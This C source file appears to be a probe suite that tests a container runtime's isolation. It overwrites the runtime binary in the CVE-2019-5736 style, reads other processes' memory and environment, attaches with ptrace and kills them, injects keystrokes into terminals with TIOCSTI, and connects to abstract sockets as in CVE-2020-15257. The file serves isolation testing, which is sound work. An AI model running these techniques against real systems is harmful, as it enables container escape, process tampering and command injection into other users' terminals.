// Other processes, their programs, their terminals and sockets.
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

// --- The runtime's program, as in CVE-2019-5736

static int caught = -1;

// Only what bears a runtime's name: wherever this is run, nothing of the machine's own may come to harm.
static int is_runtime(const char *program) {
    return strstr(program, "swiftlet-shim") || strstr(program, "careless-runtime");
}

static void look_at_program(long process, void *unused) {
    (void)unused;
    char link[64], program[PATH_MAX];
    if (caught >= 0) return;
    snprintf(link, sizeof link, "/proc/%ld/exe", process);
    int file = open(link, O_RDONLY | O_CLOEXEC);
    if (file < 0) return;
    snprintf(link, sizeof link, "/proc/self/fd/%d", file);
    ssize_t length = readlink(link, program, sizeof program - 1);
    program[length < 0 ? 0 : length] = 0;
    if (is_runtime(program)) {
        put("caught", program);
        caught = file;
    } else {
        close(file);
    }
}

// While somebody runs it the kernel says ETXTBSY.
static int open_to_write(const char *link) {
    int file = -1;
    for (int tries = 0; tries < 3000; tries++) {
        file = open(link, O_WRONLY | O_CLOEXEC);
        if (file >= 0 || errno != ETXTBSY) break;
        usleep(1000);
    }
    return file;
}

void attack_executable(const char *text) {
    ready();
    // Whoever waits for this ends it: there is no end of trying.
    while (caught < 0) each_number("/proc", look_at_program, NULL);
    char link[64];
    snprintf(link, sizeof link, "/proc/self/fd/%d", caught);
    int file = open_to_write(link);
    put_result("open", file);
    if (file >= 0) {
        put_result("truncate", ftruncate(file, 4096));
        put_result("punch", fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096));
        void *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
        put_result("map", memory == MAP_FAILED ? -1 : 0);
        put_result("write", pwrite(file, text, strlen(text), 0));
        close(file);
    }
    // Nobody needs write access to take away the right to run it.
    put_result("chmod", chmod(link, 0));
    put("done", "executable");
}

// --- Signals, ptrace and what a debugger may see

static void attack_process(long process, void *unused) {
    (void)unused;
    char path[64], name[96];
    if (process == getpid() || process == getppid()) return;
    static const struct { const char *name; int flags; } files[] = {
        {"mem", O_RDWR}, {"environ", O_RDONLY}, {"exe", O_RDONLY}, {"root", O_RDONLY}, {"cwd", O_RDONLY},
        {"fd/0", O_RDONLY}, {"ns/mnt", O_RDONLY}};
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "/proc/%ld/%s", process, files[i].name);
        snprintf(name, sizeof name, "%ld %s", process, files[i].name);
        int file = open(path, files[i].flags | O_CLOEXEC);
        char byte;
        if (file >= 0 && i == 1 && read(file, &byte, 1) < 0) put_result(name, -1);
        else put_result(name, file);
        if (file >= 0) close(file);
    }
    snprintf(name, sizeof name, "%ld ptrace", process);
    long result = ptrace(PTRACE_SEIZE, (pid_t)process, 0, 0);
    put_result(name, result);
    if (result >= 0) ptrace(PTRACE_DETACH, (pid_t)process, 0, 0);
    // Last, for it ends what it works on.
    static const int signals[] = {SIGTERM, SIGSTOP, SIGCONT, SIGKILL};
    for (int i = 0; i < 4; i++) {
        snprintf(name, sizeof name, "%ld %s", process, sigabbrev_np(signals[i]));
        put_result(name, kill((pid_t)process, signals[i]));
    }
}

void attack_processes(const char *only) {
    if (only) attack_process(atol(only), NULL);
    else each_number("/proc", attack_process, NULL);
    put("done", "processes");
}

// --- Terminals

static void type_into(const char *name, int terminal, const char *text) {
    for (const char *c = text; *c; c++)
        if (ioctl(terminal, TIOCSTI, c) < 0) {
            put_result(name, -1);
            return;
        }
    put(name, "typed");
}

void attack_terminal(const char *text) {
    char name[64];
    static const char *const paths[] = {"/dev/tty", "/dev/console", "/proc/1/fd/0"};
    for (int number = 0; number < 3; number++) {
        snprintf(name, sizeof name, "descriptor %d", number);
        type_into(name, number, text);
    }
    for (int i = 0; i < 3; i++) {
        int terminal = open(paths[i], O_RDWR | O_NOCTTY | O_CLOEXEC);
        if (terminal < 0) put_result(paths[i], -1);
        else type_into(paths[i], terminal, text);
        if (terminal >= 0) close(terminal);
    }
    // Another's terminal, if any has a name here: ours is the only one.
    int others = 0;
    for (int number = 0; number < 64; number++) {
        snprintf(name, sizeof name, "/dev/pts/%d", number);
        const char *mine = ttyname(0);
        int terminal = mine && !strcmp(mine, name) ? -1 : open(name, O_RDWR | O_NOCTTY | O_CLOEXEC);
        if (terminal < 0) continue;
        others++;
        put_result("take it over", ioctl(terminal, TIOCSCTTY, 1));
        type_into(name, terminal, text);
        close(terminal);
    }
    put_number("others", others);
    put("done", "terminal");
}

// --- Abstract sockets, as in CVE-2020-15257

static int knock(const char *name, size_t length) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    if (length > sizeof address.sun_path - 1) return -1;
    memcpy(address.sun_path + 1, name, length);
    static const int kinds[] = {SOCK_STREAM, SOCK_SEQPACKET, SOCK_DGRAM};
    for (int i = 0; i < 3; i++) {
        int client = socket(AF_UNIX, kinds[i] | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        size_t size = offsetof(struct sockaddr_un, sun_path) + 1 + length;
        int result = connect(client, (void *)&address, (socklen_t)size);
        close(client);
        if (result == 0) return 0;
    }
    return -1;
}

void attack_sockets(void) {
    char line[512];
    FILE *list = fopen("/proc/net/unix", "r");
    int found = 0;
    while (list && fgets(line, sizeof line, list)) {
        char *at = strchr(line, '@');
        if (!at) continue;
        at[strcspn(at, "\n")] = 0;
        found++;
        put_result(at, knock(at + 1, strlen(at + 1)));
    }
    if (list) fclose(list);
    put_number("abstract", found);
    put("done", "sockets");
}
